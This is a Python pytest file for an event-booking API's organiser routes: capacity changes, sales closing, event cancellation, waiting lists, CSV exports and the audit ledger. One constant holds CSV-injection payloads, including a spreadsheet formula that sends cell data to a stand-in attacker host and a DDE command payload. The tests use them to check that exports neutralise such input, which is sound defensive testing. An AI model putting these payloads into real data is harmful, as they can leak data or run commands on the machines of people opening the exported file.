"""Organisers run an event over its life: list, resize, close sales, call off, see the queue, export.

Every route and every error row of the contract's section "Organisers: events over their life".
"""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import create_engine, select, text

from app.booking.domain import MAX_OFFER_TTL_SECONDS, MAX_PER_BOOKING, MAX_TOTAL_TICKETS
from app.booking.organisers import CancelEvent
from app.database.group_commit import Batcher
from app.database.tables import events
from app.operations import audit
from tests.helpers.api import NIL_UUID, as_csv_text, assert_problem
from tests.helpers.database import ledger_kinds, migrate


@pytest.fixture
def book(client):
    def book_one(event: dict, user: str) -> dict:
        response = client.post("/api/book", json={"eventId": event["id"], "userId": user})
        assert response.status_code == 201, response.get_json()
        return response.get_json()["booking"]

    return book_one


@pytest.fixture
def book_several(client):
    """Book `quantity` tickets for `user` as one booking (confirmed or one waiting entry)."""

    def book_tickets(event: dict, user: str, quantity: int) -> None:
        response = client.post("/api/book", json={"eventId": event["id"], "userId": user, "quantity": quantity})
        assert response.status_code == 201, response.get_json()

    return book_tickets


@pytest.fixture
def admin_get(client, admin_headers):
    def get(path: str, **headers):
        return client.get(path, headers={**admin_headers, **headers})

    return get


def status_of(client, event: dict, user: str) -> str:
    return client.get(f"/api/booking-status/{event['id']}/{user}").get_json()["booking"]["status"]


def cancel_event(client, admin_headers, event: dict):
    return client.post(f"/api/events/{event['id']}/cancel", headers=admin_headers)


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def all_pages(admin_get, path: str, key: str, limit: int) -> list[dict]:
    found, after = [], None
    while True:
        separator = "&" if "?" in path else "?"
        page = admin_get(
            f"{path}{separator}limit={limit}" + (f"&after={after}" if after is not None else "")
        ).get_json()
        found += page[key]
        after = page["nextAfter"]
        if after is None:
            return found


# --- GET /api/events ---------------------------------------------------------------------------


def test_events_are_listed_newest_first_in_pages_that_chain_by_next_after(new_event, admin_get):
    opened = [new_event(1)["id"] for _ in range(5)]
    first = admin_get("/api/events?limit=2").get_json()
    listed = all_pages(admin_get, "/api/events", "events", limit=2)

    assert [event["id"] for event in first["events"]] == opened[::-1][:2]
    ids = [event["id"] for event in listed]
    assert [i for i in ids if i in opened] == opened[::-1] and len(ids) == len(set(ids))


def test_events_list_ends_with_a_null_next_after(admin_get, new_event):
    # all_pages stops only at a null nextAfter; walking every page keeps the test true however many
    # events other tests left in the shared database.
    event = new_event(1)
    assert event["id"] in [e["id"] for e in all_pages(admin_get, "/api/events", "events", limit=1000)]


def test_events_filtered_by_status_hold_only_that_status(client, admin_headers, new_event, admin_get):
    called_off, running = new_event(1), new_event(1)
    cancel_event(client, admin_headers, called_off)

    cancelled = [e["id"] for e in all_pages(admin_get, "/api/events?status=cancelled", "events", limit=1000)]
    active = [e["id"] for e in all_pages(admin_get, "/api/events?status=active", "events", limit=1000)]

    assert called_off["id"] in cancelled and running["id"] not in cancelled
    assert running["id"] in active and called_off["id"] not in active


@pytest.mark.parametrize("query", ["limit=0", "limit=1001", "status=over", "after=0", "after=x", "sort=name"])
def test_events_list_refuses_a_bad_query(admin_get, query):
    assert_problem(admin_get(f"/api/events?{query}"), 400, "invalid_request")


# --- PATCH /api/events/<eventId> ---------------------------------------------------------------


def test_patch_changes_name_and_max_per_booking_and_keeps_the_rest(new_event, patch):
    event = new_event(5, name="Before")
    changed = patch(event, name="After", maxPerBooking=3).get_json()

    assert changed["event"]["name"] == "After" and changed["event"]["maxPerBooking"] == 3
    assert changed["event"]["totalTickets"] == 5 and changed["promotedBookings"] == []


def test_a_patch_that_changes_nothing_writes_nothing(new_event, patch, engine):
    event = new_event(5, name="Same")
    unchanged = [patch(event).get_json(), patch(event, name="Same", totalTickets=5, salesOpen=True).get_json()]

    assert [answer["event"] for answer in unchanged] == [event, event]
    assert ledger_kinds(engine, event["id"]) == []


def test_capacity_raise_promotes_waiting_entries_in_queue_order(new_event, book, patch, client):
    event = new_event(1)
    for user in ("holder", "w1", "w2", "w3"):
        book(event, user)
    changed = patch(event, totalTickets=3).get_json()

    assert [b["userId"] for b in changed["promotedBookings"]] == ["w1", "w2"]
    assert all(b["status"] == "confirmed" for b in changed["promotedBookings"])
    assert (changed["event"]["availableTickets"], changed["event"]["waitingListCount"]) == (0, 1)
    assert status_of(client, event, "w3") == "waiting"


def test_capacity_raise_stops_at_the_first_entry_that_does_not_fit(new_event, book, book_several, patch):
    event = new_event(3)
    book_several(event, "holder", 2)
    book_several(event, "big", 3)
    book(event, "small")
    changed = patch(event, totalTickets=4).get_json()

    # Two tickets are free; the head wants three, so nobody behind it is confirmed before it.
    assert changed["promotedBookings"] == [] and changed["event"]["availableTickets"] == 2
    promoted = patch(event, totalTickets=5).get_json()["promotedBookings"]
    assert [(b["userId"], b["quantity"]) for b in promoted] == [("big", 3)]


def test_capacity_may_be_lowered_to_the_tickets_held(new_event, book, patch):
    event = new_event(5)
    book(event, "a")
    book(event, "b")
    changed = patch(event, totalTickets=2).get_json()["event"]
    assert (changed["totalTickets"], changed["availableTickets"]) == (2, 0)


def test_capacity_below_the_tickets_held_is_refused_and_changes_nothing(new_event, book, patch, client):
    event = new_event(5)
    book(event, "a")
    book(event, "b")
    assert_problem(patch(event, totalTickets=1), 409, "capacity_below_booked")
    assert client.get(f"/api/status/{event['id']}").get_json()["event"]["totalTickets"] == 5


def test_capacity_below_a_waiting_entry_is_refused(new_event, book_several, patch):
    event = new_event(10)
    book_several(event, "holder", 5)
    book_several(event, "group", 8)  # waits: 5 left
    assert_problem(patch(event, totalTickets=7), 409, "capacity_below_waiting")


@pytest.mark.parametrize(
    "body",
    [
        {"totalTickets": 0},
        {"totalTickets": MAX_TOTAL_TICKETS + 1},
        {"totalTickets": "5"},
        {"maxPerBooking": MAX_PER_BOOKING + 1},
        {"salesOpen": "false"},
        {"salesOpen": 0},
        {"name": ""},
        {"promotion": "manual"},
        {"offerTtlSeconds": 0},
        {"offerTtlSeconds": MAX_OFFER_TTL_SECONDS + 1},
        {"status": "cancelled"},
    ],
)
def test_patch_refuses_a_bad_body(new_event, patch, body):
    assert_problem(patch(new_event(1), **body), 400, "invalid_request")


def test_patch_of_an_unknown_event_is_404(patch):
    assert_problem(patch({"id": NIL_UUID}, name="x"), 404, "event_not_found")


def test_patch_with_an_idempotency_key_is_replayed(new_event, client, admin_headers):
    event = new_event(1)
    headers = {**admin_headers, "Idempotency-Key": f"patch-{event['id']}"}
    first = client.patch(f"/api/events/{event['id']}", json={"totalTickets": 4}, headers=headers)
    again = client.patch(f"/api/events/{event['id']}", json={"totalTickets": 4}, headers=headers)
    assert again.headers["Idempotent-Replayed"] == "true" and again.get_data() == first.get_data()


# --- salesOpen ---------------------------------------------------------------------------------


def test_closed_sales_refuse_bookings(new_event, patch, client):
    event = new_event(5)
    assert patch(event, salesOpen=False).get_json()["event"]["salesOpen"] is False
    response = client.post("/api/book", json={"eventId": event["id"], "userId": "late"})
    assert_problem(response, 409, "sales_closed")


def test_cancels_and_their_promotions_go_on_while_sales_are_closed(new_event, book, patch, client):
    event = new_event(1)
    book(event, "holder")
    book(event, "waiter")
    patch(event, salesOpen=False)
    cancelled = client.post("/api/cancel", json={"eventId": event["id"], "userId": "holder"}).get_json()
    assert cancelled["promoted"]["userId"] == "waiter"


def test_reopened_sales_take_bookings_again(new_event, patch, client, engine):
    event = new_event(5)
    patch(event, salesOpen=False)
    patch(event, salesOpen=True)
    assert client.post("/api/book", json={"eventId": event["id"], "userId": "u"}).status_code == 201
    assert ledger_kinds(engine, event["id"]) == [
        "event_updated",
        "sales_closed",
        "event_updated",
        "sales_opened",
        "booked",
    ]


# --- POST /api/events/<eventId>/cancel ---------------------------------------------------------


def test_cancelling_an_event_cancels_every_active_booking(new_event, book, client, admin_headers, admin_get):
    event = new_event(1)
    for user in ("holder", "waiter"):
        book(event, user)
    called_off = cancel_event(client, admin_headers, event).get_json()["event"]

    assert (called_off["status"], called_off["availableTickets"], called_off["waitingListCount"]) == ("cancelled", 1, 0)
    bookings = admin_get(f"/api/events/{event['id']}/bookings").get_json()["bookings"]
    assert [b["status"] for b in bookings] == ["cancelled", "cancelled"]


def test_cancelling_an_event_again_is_200_with_the_same_event(new_event, book, client, admin_headers, engine):
    event = new_event(1)
    book(event, "holder")
    first = cancel_event(client, admin_headers, event)
    again = cancel_event(client, admin_headers, event)
    assert again.status_code == 200 and again.get_json() == first.get_json()
    assert ledger_kinds(engine, event["id"]) == ["booked", "event_cancelled", "cancelled"]


@pytest.mark.parametrize(
    "method, path, body",
    [
        ("POST", "/api/book", {"userId": "new"}),
        ("POST", "/api/cancel", {"userId": "holder"}),
        ("PATCH", "/api/events/{id}", {"name": "x"}),
    ],
)
def test_writes_to_a_cancelled_event_are_409(new_event, book, client, admin_headers, method, path, body):
    event = new_event(1)
    book(event, "holder")
    cancel_event(client, admin_headers, event)
    body = body if method == "PATCH" else {"eventId": event["id"], **body}
    response = client.open(path.format(id=event["id"]), method=method, json=body, headers=admin_headers)
    assert_problem(response, 409, "event_cancelled")


def test_cancelling_an_unknown_event_is_404(client, admin_headers):
    assert_problem(cancel_event(client, admin_headers, {"id": NIL_UUID}), 404, "event_not_found")


def test_cancel_with_a_body_that_is_not_json_is_415(new_event, client, admin_headers):
    response = client.post(
        f"/api/events/{new_event(1)['id']}/cancel", data="now", content_type="text/plain", headers=admin_headers
    )
    assert_problem(response, 415, "unsupported_media_type")


# --- GET /api/events/<eventId>/waiting-list ----------------------------------------------------


@pytest.fixture
def queue(new_event, book, book_several, client):
    """An event of 3 tickets, all held, with five waiting entries of 1..3 tickets, one of which left."""
    event = new_event(3)
    book_several(event, "holder", 3)
    for user, quantity in (("w1", 2), ("w2", 1), ("gone", 3), ("w3", 3), ("w4", 1)):
        book_several(event, user, quantity)
    client.post("/api/cancel", json={"eventId": event["id"], "userId": "gone"})
    return event


def test_waiting_list_gives_each_entry_its_position_quantity_and_tickets_ahead(queue, admin_get):
    entries = admin_get(f"/api/events/{queue['id']}/waiting-list").get_json()["entries"]
    assert [(e["userId"], e["position"], e["quantity"], e["ticketsAhead"]) for e in entries] == [
        ("w1", 1, 2, 0),
        ("w2", 2, 1, 2),
        ("w3", 3, 3, 3),
        ("w4", 4, 1, 6),
    ]


def test_waiting_list_pages_give_the_same_places_as_one_page(queue, admin_get):
    whole = admin_get(f"/api/events/{queue['id']}/waiting-list").get_json()["entries"]
    assert all_pages(admin_get, f"/api/events/{queue['id']}/waiting-list", "entries", limit=1) == whole


def test_waiting_list_as_csv_matches_the_json_pages(queue, admin_get):
    pages = all_pages(admin_get, f"/api/events/{queue['id']}/waiting-list", "entries", limit=3)
    exported = csv_rows(admin_get(f"/api/events/{queue['id']}/waiting-list", Accept="text/csv"))
    assert exported == as_csv_text(pages)


def test_an_empty_waiting_list_as_csv_is_its_header(new_event, admin_get):
    response = admin_get(f"/api/events/{new_event(1)['id']}/waiting-list", Accept="text/csv")
    assert response.get_data(as_text=True) == "id,userId,quantity,position,ticketsAhead,createdAt,items\r\n"


# --- GET /api/events/<eventId>/bookings --------------------------------------------------------


def test_bookings_are_listed_oldest_first_filtered_by_status(queue, admin_get):
    listed = admin_get(f"/api/events/{queue['id']}/bookings").get_json()["bookings"]
    cancelled = admin_get(f"/api/events/{queue['id']}/bookings?status=cancelled").get_json()["bookings"]
    assert [b["userId"] for b in listed] == ["holder", "w1", "w2", "gone", "w3", "w4"]
    assert [(b["userId"], b["quantity"]) for b in cancelled] == [("gone", 3)]


def test_offered_bookings_are_listed_with_their_deadline_and_a_declined_one_with_its_reason(
    new_event, admin_get, patch, client
):
    event = new_event(1)
    patch(event, promotion="offer", offerTtlSeconds=3600)
    for user in ("holder", "waiter"):
        client.post("/api/book", json={"eventId": event["id"], "userId": user})
    client.post("/api/cancel", json={"eventId": event["id"], "userId": "holder"})
    offered = admin_get(f"/api/events/{event['id']}/bookings?status=offered").get_json()["bookings"]
    client.post("/api/decline", json={"eventId": event["id"], "userId": "waiter"})
    declined = admin_get(f"/api/events/{event['id']}/bookings?status=cancelled").get_json()["bookings"]

    assert [(b["userId"], b["offerExpiresAt"] is not None) for b in offered] == [("waiter", True)]
    assert [(b["userId"], b["cancelReason"]) for b in declined] == [("holder", None), ("waiter", "declined")]


def test_bookings_as_csv_match_the_json_pages(queue, admin_get):
    pages = all_pages(admin_get, f"/api/events/{queue['id']}/bookings?status=waiting", "bookings", limit=2)
    exported = csv_rows(admin_get(f"/api/events/{queue['id']}/bookings?status=waiting", Accept="text/csv"))
    assert exported == as_csv_text(pages) and len(exported) == 4


# The payloads (OWASP CSV injection): each a formula to a spreadsheet, if written as it came.
FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/x?d="&A2,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


@pytest.mark.parametrize("path", ["waiting-list", "bookings?status=waiting"])
def test_a_user_id_that_a_spreadsheet_would_run_is_exported_as_text_and_listed_as_it_is(
    new_event, book, admin_get, path
):
    event = new_event(1)
    for user in ["holder", *FORMULAS]:
        book(event, user)
    exported = csv_rows(admin_get(f"/api/events/{event['id']}/{path}", Accept="text/csv"))
    listed = admin_get(f"/api/events/{event['id']}/{path}").get_json()
    assert [row["userId"] for row in exported] == [f"'{formula}" for formula in FORMULAS]
    assert [entry["userId"] for entry in listed.get("entries", listed.get("bookings"))] == FORMULAS


@pytest.mark.parametrize("path", ["waiting-list", "bookings"])
@pytest.mark.parametrize("accept", ["application/json", "text/csv"])
def test_lists_of_an_unknown_event_are_404(admin_get, path, accept):
    assert_problem(admin_get(f"/api/events/{NIL_UUID}/{path}", Accept=accept), 404, "event_not_found")


@pytest.mark.parametrize("query", ["limit=0", "after=-1", "status=holding", "page=2"])
def test_bookings_list_refuses_a_bad_query(new_event, admin_get, query):
    assert_problem(admin_get(f"/api/events/{new_event(1)['id']}/bookings?{query}"), 400, "invalid_request")


# --- every organiser route is admin --------------------------------------------------------------


@pytest.mark.parametrize(
    "method, path",
    [
        ("GET", "/api/events"),
        ("PATCH", "/api/events/{id}"),
        ("POST", "/api/events/{id}/cancel"),
        ("GET", "/api/events/{id}/waiting-list"),
        ("GET", "/api/events/{id}/bookings"),
    ],
)
@pytest.mark.parametrize("authorization", [None, "Bearer wrong-token"])
def test_organiser_routes_refuse_without_the_admin_token(new_event, client, method, path, authorization):
    event = new_event(1)
    headers = {"Authorization": authorization} if authorization else {}
    response = client.open(path.format(id=event["id"]), method=method, json={"name": "x"}, headers=headers)
    assert_problem(response, 401, "unauthorized")
    assert client.get(f"/api/status/{event['id']}").get_json()["event"] == event


# --- the ledger ----------------------------------------------------------------------------------


def test_history_shows_a_capacity_change_with_its_totals_and_the_promotions(new_event, book, patch, admin_get):
    event = new_event(1)
    book(event, "holder")
    book(event, "waiter")
    patch(event, totalTickets=2)
    entries = admin_get(f"/api/events/{event['id']}/history").get_json()["entries"]

    change, promotion = entries[3], entries[4]  # after the PATCH's event_updated
    assert (change["kind"], change["bookingId"], change["totalTicketsFrom"], change["totalTicketsTo"]) == (
        "capacity_changed",
        None,
        1,
        2,
    )
    assert (promotion["kind"], promotion["userId"], promotion["requestId"]) == (
        "promoted",
        "waiter",
        change["requestId"],
    )
    assert "totalTicketsFrom" not in entries[0]


@pytest.mark.parametrize(
    "body, kinds",
    [
        ({"name": "Renamed"}, ["event_updated"]),
        ({"offerTtlSeconds": 60, "promotion": "offer", "maxPerBooking": 2}, ["event_updated"]),
        (
            {"salesOpen": False, "totalTickets": 3, "name": "Both"},
            ["event_updated", "sales_closed", "capacity_changed"],
        ),
    ],
)
def test_every_patch_that_changes_something_opens_its_entries_with_one_event_updated(
    new_event, patch, admin_get, body, kinds
):
    event = new_event(1)
    patch(event, **body)
    entries = admin_get(f"/api/events/{event['id']}/history").get_json()["entries"]

    assert [entry["kind"] for entry in entries] == kinds
    assert {(entry["bookingId"], entry["userId"], entry["quantity"]) for entry in entries} == {(None, None, None)}
    assert len({entry["requestId"] for entry in entries}) == 1 and "totalTicketsFrom" not in entries[0]


def test_check_replays_an_event_through_its_whole_life(
    engine, new_event, book, book_several, patch, client, admin_headers
):
    event = new_event(3)
    for user in ("a", "b", "c"):
        book(event, user)
    book_several(event, "group", 3)
    book(event, "d")
    changes = [patch(event, totalTickets=6), patch(event, salesOpen=False)]
    client.post("/api/cancel", json={"eventId": event["id"], "userId": "a"})  # promotes d
    changes += [patch(event, salesOpen=True, totalTickets=7), patch(event, totalTickets=6)]
    cancel_event(client, admin_headers, event)

    assert [change.status_code for change in changes] == [200] * 4

    with engine.connect() as conn:
        report = audit.Report()
        audit.check_event(conn, conn.execute(select(events).where(events.c.id == event["id"])).one(), report)
    assert report.problems == []


SEED_HOLDERS = [
    "INSERT INTO events (total_tickets, available_tickets) VALUES (:n, 0) RETURNING id",
    "INSERT INTO bookings (event_id, user_id, status) SELECT :event_id, 'holder-' || n, 'confirmed'"
    " FROM generate_series(1, :n) AS n",
]


def test_calling_off_a_big_event_is_not_cut_short_by_the_statement_timeout(scratch_url):
    # 20 000 bookings take far longer to cancel than the 50 ms every other statement is allowed here. They
    # are seeded without their ledger, in a database of the test's own, where no `flask check` reads them.
    migrate(scratch_url, "head")
    seeder = create_engine(scratch_url)
    with seeder.begin() as conn:
        event_id = conn.execute(text(SEED_HOLDERS[0]), {"n": 20_000}).scalar_one()
        conn.execute(text(SEED_HOLDERS[1]), {"event_id": event_id, "n": 20_000})
    seeder.dispose()
    engine = create_engine(scratch_url, connect_args={"options": "-c statement_timeout=50"})
    try:
        called_off = CancelEvent(str(event_id)).alone(engine, Batcher())
    finally:
        engine.dispose()
    assert (called_off.cancelled_bookings, called_off.event.status) == (20_000, "cancelled")
